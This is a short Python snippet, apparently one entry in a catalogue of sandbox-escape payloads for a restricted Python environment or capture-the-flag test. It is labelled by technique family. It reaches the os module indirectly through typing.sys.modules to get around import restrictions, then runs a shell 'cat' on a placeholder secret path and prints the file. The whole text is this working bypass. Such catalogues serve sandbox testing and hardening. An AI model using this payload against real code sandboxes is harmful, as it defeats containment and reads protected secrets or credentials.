# family: sys.modules via a module that exposes it
# goal: reach os through typing.sys.modules
import typing
os_module = typing.sys.modules["os"]
print(os_module.popen("cat __SECRET_PATH__").read())
